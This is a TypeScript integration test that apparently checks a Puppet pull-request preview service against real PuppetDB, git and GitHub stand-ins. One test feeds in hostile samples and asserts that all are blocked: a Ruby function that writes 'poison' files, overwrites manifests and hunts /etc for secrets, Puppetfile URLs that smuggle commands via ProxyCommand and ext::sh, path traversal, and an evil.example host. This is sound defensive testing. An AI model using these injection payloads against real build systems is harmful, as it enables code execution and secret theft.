import { execFileSync, spawn, type ChildProcess } from "node:child_process";
import { once } from "node:events";
import { existsSync, mkdirSync, writeFileSync } from "node:fs";
import { mkdtemp, rm } from "node:fs/promises";
import type { Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createGitHub, type GitHub } from "../../src/demo/github/github.ts";
import * as leaks from "../check/leaks.ts";
import { type Remote, serveGit } from "../git/remote.ts";
import { serveForge } from "./forge.ts";
import { createDatabase } from "./postgres.ts";
import { type RealPuppetDb, startRealPuppetDb, until } from "./puppetdb.ts";
import { listening, passOn, rows, treeOf } from "./site-parts.ts";

/**
 * `puppet-gate serve` in a process of its own at a whole site: a real PuppetDB that has the nodes' facts and what they export, a forge by r10k
 * and a git server that have the modules of the Puppetfile, PostgreSQL, and GitHub's stand-in.
 */
const control = "acme/control";
/** With a stand-in that only its own changes may see. */
const other = "acme/other";
const othersOwn = "what-stands-in-for-the-others";
const webhookSecret = "what webhooks are signed with";
/** In a fact that the policy lets no compile see. */
const hiddenFact = "a-token-of-the-metadata-service";
let folder: string;
let github: GitHub;
let puppetdb: RealPuppetDb;
let modules: Remote;
let forge: Remote;
let databaseUrl: string;
let privateKey: string;
/** In front of PuppetDB, so that it can be away. */
let door: Server;
let isAway = false;
let watch: Server;
let gate: ChildProcess;
let log = "";
let sent = "";
const commits: Record<string, string> = {};

const site = (body: string): string => `${body}
node 'web01.example' {
  include clock
  include banner
  notify { "runs \${$facts['os']['name']}": }
  notify { "token \${$facts['ec2_metadata']}": }
  File <<| tag == 'peer' |>>
}
`;
const puppetfile = (clock: string): string =>
  `forge '${forge.url}'\nmod 'acme/banner', '1.0.0'\nmod 'clock',\n  git: '${modules.url}/clock.git',\n  commit: '${commits[clock]}'\n`;
const nodes = ["web01.example", ...Object.keys(leaks.base).flatMap((path) => /^facts\/(.*)\.json$/u.exec(path)?.slice(1) ?? [])];
const leaking = (files: typeof leaks.base): Record<string, string> =>
  Object.fromEntries(
    Object.entries(files)
      .filter(([path]) => !path.startsWith("facts/"))
      .map(([path, content]) => [path, path === "manifests/site.pp" ? site(String(content)) : String(content)]),
  );

function makeModule(): void {
  const work = join(folder, "work");
  const git = (cwd: string, ...args: string[]): string =>
    execFileSync("git", ["-c", "user.name=Ann", "-c", "user.email=ann@example.com", "-c", "init.defaultBranch=main", ...args], {
      cwd,
      encoding: "utf8",
    }).trim();
  mkdirSync(join(work, "manifests"), { recursive: true });
  git(work, "init", "-q");
  for (const server of ["a", "b"]) {
    writeFileSync(join(work, "manifests/init.pp"), `class clock {\n  file { '/etc/clock': content => 'server ${server}.example' }\n}\n`);
    git(work, "add", "-A");
    git(work, "commit", "-q", "-m", `Ask ${server}`);
    commits[server] = git(work, "rev-parse", "HEAD");
  }
  // What r10k on a server would follow: a repository beside it, and a command.
  writeFileSync(
    join(work, ".gitmodules"),
    `[submodule "near"]\n\tpath = near\n\turl = ../near.git\n[submodule "far"]\n\tpath = far\n\turl = ext::sh -c touch% ${join(folder, "canary")}\n`,
  );
  for (const path of ["near", "far"]) git(work, "update-index", "--add", "--cacheinfo", `160000,${commits["a"]},${path}`);
  git(work, "add", ".gitmodules");
  git(work, "commit", "-q", "-m", "Have submodules");
  commits["submodules"] = git(work, "rev-parse", "HEAD");
  mkdirSync(join(folder, "served"));
  for (const bare of ["clock", "near"]) git(folder, "clone", "-q", "--bare", "work", `served/${bare}.git`);
}

async function fillPuppetdb(): Promise<void> {
  const at = new Date(Date.now() - 60_000).toISOString();
  for (const certname of nodes) {
    const trusted = { authenticated: "remote", certname, extensions: {}, hostname: certname, domain: null };
    const values = { os: { name: "Debian", family: "Debian" }, ec2_metadata: hiddenFact, trusted };
    await puppetdb.submit("replace_facts", 5, { certname, environment: "production", producer_timestamp: at, producer: "p", values });
  }
  const peer = {
    type: "File",
    title: "/etc/peers/db01",
    exported: true,
    tags: ["file", "peer"],
    parameters: { content: "10.0.0.7" },
    aliases: [],
  };
  const main = { type: "Class", title: "main", exported: false, tags: ["class"], parameters: {}, aliases: [] };
  const edges = [
    { source: { type: "Class", title: "main" }, target: { type: "File", title: "/etc/peers/db01" }, relationship: "contains" },
  ];
  const ids = { version: "1", environment: "production", transaction_uuid: null, catalog_uuid: null, code_id: null, job_id: null };
  await puppetdb.submit("replace_catalog", 9, {
    ...ids,
    certname: "shown.example",
    producer_timestamp: at,
    producer: "p",
    edges,
    resources: [main, peer],
  });
  const ask = async (endpoint: string): Promise<unknown[]> =>
    (await (await fetch(`${puppetdb.url}/pdb/query/v4/${endpoint}`)).json()) as unknown[];
  await until(async () => (await ask("factsets")).length === nodes.length && (await ask("resources/File")).length === 1);
}

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "puppet-gate-site-"));
  const postgres = process.env["PUPPET_GATE_TEST_POSTGRES"] ?? "";
  makeModule();
  [puppetdb, databaseUrl, modules, forge, github] = await Promise.all([
    startRealPuppetDb(postgres),
    createDatabase(postgres),
    serveGit(join(folder, "served"), null),
    serveForge(folder, {
      "acme-banner-1.0.0": { "manifests/init.pp": "class banner {\n  file { '/etc/banner': content => $facts['os']['name'] }\n}\n" },
    }),
    createGitHub({ folder: join(folder, "github") }),
  ]);
  await fillPuppetdb();
  const puppetdbPort = Number(new URL(puppetdb.url).port);
  door = passOn(
    () => (isAway ? null : puppetdbPort),
    () => undefined,
  );
  const doorPort = await listening(door);
  for (const login of ["alice", "bob"]) github.user(login, { emails: [`${login}@acme.example`] });
  github.organization("acme");
  for (const each of [control, other]) {
    await github.repository(each);
    for (const login of ["alice", "bob"]) github.collaborator(each, login, "write");
  }
  const policy = {
    version: 1,
    facts: { puppetdb: { exported: true }, never: ["ec2_metadata"] },
    modules: { sources: [`${modules.url}/*`, forge.url] },
  };
  await github.as("bob").commit(control, {
    branch: "main",
    files: {
      ...leaking(leaks.base),
      Puppetfile: puppetfile("a"),
      ".github/puppet-gate.yml": JSON.stringify(policy),
      "environment.conf": "modulepath = site:modules\n",
    },
    message: "begin",
  });
  await github.as("bob").commit(other, {
    branch: "main",
    files: {
      "hiera.yaml": "version: 5\nhierarchy:\n  - {name: private, path: /etc/private/common.yaml, data_hash: yaml_data}\n",
      "stand-ins/files/etc/private/common.yaml": `own: ${othersOwn}\n`,
      ".github/puppet-gate.yml": JSON.stringify({ version: 1, compile: { stand_ins: "stand-ins" }, facts: { puppetdb: {} } }),
      "manifests/site.pp": "node default { }\n",
    },
    message: "begin",
  });
  const app = github.app({
    name: "Puppet Gate",
    owner: "acme",
    webhookSecret,
    permissions: { contents: "write", pull_requests: "write", checks: "write", members: "read", statuses: "read", actions: "read" },
    events: ["pull_request", "pull_request_review", "issue_comment", "push", "check_run"],
  });
  ({ privateKey } = app);
  github.install(app, { on: "acme" });
  const port = Number(new URL((await github.listen()).origin).port);
  watch = passOn(
    () => port,
    (path, chunk) => {
      if (path.startsWith("/api/")) sent += chunk;
    },
  );
  gate = spawn(process.execPath, [join(import.meta.dirname, "..", "..", "src", "cli.ts"), "serve"], {
    env: {
      PATH: process.env["PATH"] ?? "",
      APP_ID: String(app.id),
      PRIVATE_KEY: privateKey,
      WEBHOOK_SECRET: webhookSecret,
      PUPPET_GATE_DATA: join(folder, "data"),
      DATABASE_URL: databaseUrl,
      PUPPETDB_URL: `http://127.0.0.1:${doorPort}`,
      PORT: "0",
      GHE_HOST: `127.0.0.1:${await listening(watch)}`,
      GHE_PROTOCOL: "http",
      LOG_LEVEL: "trace",
    },
    stdio: ["ignore", "pipe", "pipe"],
  });
  const ready = new Promise<string>((resolve, reject) => {
    for (const stream of [gate.stdout, gate.stderr])
      stream?.on("data", (chunk: Buffer) => {
        log += chunk.toString();
        const [, url] =
          /puppet-gate is listening.*?(http:\/\/127\.0\.0\.1:\d+)/u.exec(log) ??
          /(http:\/\/127\.0\.0\.1:\d+)[^\n]*puppet-gate is listening/u.exec(log) ??
          [];
        if (url !== undefined) resolve(url);
      });
    gate.once("exit", () => reject(new Error(log)));
  });
  github.webhooks(app, `${await ready}/api/github/webhooks`);
}, 300_000);
afterAll(async () => {
  await end();
  for (const server of [watch, door]) server.close();
  await Promise.all([modules.close(), forge.close(), puppetdb.close(), github.close()]);
  await rm(folder, { recursive: true });
});

async function end(): Promise<void> {
  if (gate.exitCode !== null || gate.signalCode !== null) return;
  const ended = once(gate, "exit");
  gate.kill("SIGTERM");
  await ended;
}

async function open(
  branch: string,
  files: Record<string, string>,
  name = control,
): Promise<{ number: number; said: () => Promise<string>; shown: () => string }> {
  const alice = github.as("alice");
  const head = await alice.commit(name, { branch, from: "main", files, message: branch });
  const { number } = await alice.openPull(name, { head: branch, title: branch });
  const said = async (): Promise<string> =>
    (await alice.request<{ body: string }[]>(`GET /repos/${name}/issues/${number}/comments`)).map(({ body }) => body).join("\n");
  const repo = [...github.state.repos.values()].find(({ name: short }) => name.endsWith(`/${short}`));
  const shown = (): string => {
    const run = [...(repo?.checkRuns.values() ?? [])].findLast(({ headSha }) => headSha === head);
    return JSON.stringify(run?.output ?? {});
  };
  return { number, said, shown };
}

const timeout = 300_000;
const poll = { timeout: 200_000, interval: 200 };

describe.skipIf(!existsSync("/usr/share/puppetdb/puppetdb.jar"))(
  "serve at a site with PuppetDB, a forge and modules from git",
  { timeout },
  () => {
    it("shows what a changed pin does, on PuppetDB's facts and with what others export, and the module's own difference", async () => {
      const { said, shown } = await open("pin", { Puppetfile: puppetfile("b") });
      await expect.poll(said, poll).toContain("would change");
      const text = await said();
      expect(text).toContain("changed `File[/etc/clock]` `content` on `web01.example`");
      expect(text).toContain('- "server a.example"');
      expect(text).toContain('+ "server b.example"');
      const [old, now] = [commits["a"]?.slice(0, 10), commits["b"]?.slice(0, 10)];
      for (const where of [text, shown()]) expect(where).toContain(`clock ${old} -> ${now}: 1 commit more, 1 file of it changes`);
      expect(text).toContain(`Of ${nodes.length} nodes, 1 would change`);
    });

    it("compiles with PuppetDB's facts, the forge's release, and what another node exports", async () => {
      const body = String(leaks.base["manifests/site.pp"]);
      const changed = site(body)
        .replace("File <<| tag == 'peer' |>>", "File <<| tag == 'peer' |>> { mode => '0600' }")
        .replace('"runs ', '"now runs ');
      const { said } = await open("facts", { "manifests/site.pp": changed });
      await expect.poll(said, poll).toContain("would change");
      const text = await said();
      expect(text).toContain("`File[/etc/peers/db01]` `mode`");
      expect(text).toContain("`Notify[now runs Debian]`");
      expect(text).not.toContain("can't be had");
    });

    it("says what to do where PuppetDB is away, and judges by itself once it is back", async () => {
      isAway = true;
      const { said } = await open("away", { Puppetfile: puppetfile("b") });
      try {
        await expect.poll(said, poll).toMatch(/PuppetDB at .* can't be asked/u);
        expect(await said()).toContain("See that it runs, that this machine may reach it");
        expect(await said()).toContain("### Blocked");
      } finally {
        isAway = false;
      }
      await expect.poll(said, poll).toContain("changed `File[/etc/clock]`");
    });

    it("does nothing that a hostile change asks of caches, mounts, other repositories and addresses, and others are judged meanwhile", async () => {
      const canary = join(folder, "canary");
      const data = join(folder, "data");
      const before = treeOf(join(data, "modules"));
      const asked = modules.requests.length;
      const ruby = `Puppet::Functions.create_function(:'profile::attack') do
  def attack
    require 'socket'
    done = []
    spots = Dir.glob('/etc/puppetlabs/code/**/') + ['${join(data, "modules")}/', '${join(data, "mirrors")}/', '${folder}/', '/']
    spots.uniq.each { |spot| begin; File.write(spot + 'poison', 'x'); done << spot unless spot.start_with?('/tmp'); rescue StandardError; end }
    Dir.glob('/etc/puppetlabs/code/modules-*/**/*.pp').each { |file| begin; File.write(file, 'class clock { }'); done << file; rescue StandardError; end }
    Dir.glob('{${data},${folder}}/**/*').each { |file| done << file }
    begin; File.write('${canary}', 'x'); done << 'canary'; rescue StandardError; end
    begin; TCPSocket.new('127.0.0.1', ${new URL(modules.url).port}); done << 'network'; rescue StandardError; end
    (Dir.glob('/etc/**/*.yaml') + ['/etc/private/common.yaml']).each { |file| begin; done << file if File.read(file).include?('stands-in-for'); rescue StandardError; end }
    'worked: ' + done.join(' ') + '.'
  end
end
`;
      const lines = [
        `mod 'one', git: 'file://${join(folder, "served/clock.git")}'`,
        `mod 'two', git: 'ssh://-oProxyCommand=touch\${IFS}${canary}/x'`,
        `mod 'three', git: 'ext::sh -c touch% ${canary}'`,
        `mod 'four', git: 'https://forge.evil.example/x.git'`,
        `mod 'five', git: '${modules.url}/../../etc/x.git'`,
        `mod 'six', git: '${modules.url}/clock.git', commit: '${commits["a"]}', install_path: '../../../poison'`,
      ];
      const changed = site(String(leaks.base["manifests/site.pp"])).replace(
        "include banner",
        "include banner\n  notify { profile::attack(): }",
      );
      const others = await open("others", { "manifests/site.pp": "node default { notify { lookup('own'): } }\n" }, other);
      const evil = await open("evil", {
        "site/profile/lib/puppet/functions/profile/attack.rb": ruby,
        "manifests/site.pp": changed,
        Puppetfile: `${puppetfile("submodules")}${lines.join("\n")}\n`,
      });
      const good = await open("good", { Puppetfile: puppetfile("b") });
      await expect.poll(others.said, poll).toContain(othersOwn);
      await expect.poll(evil.said, poll).toContain("### Blocked");
      await expect.poll(good.said, poll).toContain("changed `File[/etc/clock]`");
      const text = await evil.said();
      expect(text).toContain("`Notify[worked: .]`");
      for (const why of ["is no address that a module is fetched from", "does not let https:"]) expect(text).toContain(why);
      expect(existsSync(canary)).toBe(false);
      expect(modules.requests.slice(asked).filter(({ path }) => !path.startsWith("/clock.git/"))).toEqual([]);
      // What was there is as it was; what came is of the addresses that may be asked.
      for (const [path, digest] of Object.entries(before)) expect(treeOf(join(data, "modules"))[path]).toBe(digest);
      expect(Object.keys(treeOf(data)).filter((path) => path.includes("poison"))).toEqual([]);
    });

    it("lets no secret into log, GitHub, database or page", async () => {
      const files = leaking(leaks.head);
      const manifest = String(files["manifests/site.pp"]).replace('"token ', '"now token ');
      const { number, said } = await open("leaks", { ...files, "manifests/site.pp": manifest, Puppetfile: puppetfile("b") });
      await expect.poll(said, poll).toContain("[secret]");
      await github.as("alice").comment(control, number, "/why");
      await expect.poll(said, poll).toMatch(/alice said `\/why`/u);
      await end();
      const { text: kept, pages } = await rows(databaseUrl);
      for (const words of ["[secret]", "content =&gt; (secret)", "Notify[now token ]"]) expect(pages).toContain(words);
      expect(kept).toContain("[secret]");
      for (const table of ["entries ", "checks ", "changes "]) expect(kept).toContain(table);
      const { text: compiles, ...held } = leaks.keptIn(join(folder, "data", "compiles"));
      expect(held.compiles).toBeGreaterThanOrEqual(nodes.length);
      expect(held.records).toBeGreaterThan(0);
      const own = [webhookSecret, hiddenFact, new URL(databaseUrl).password, ...privateKey.split("\n").filter((line) => line.length > 40)];
      const found = Object.entries({ log, sent, kept, pages, compiles }).flatMap(([where, all]) => [
        ...leaks.foundIn(all).map((secret) => `${secret} in ${where}`),
        ...own.filter((each) => all.includes(each)).map((each) => `${each} in ${where}`),
      ]);
      expect(found).toEqual([]);
    });
  },
);
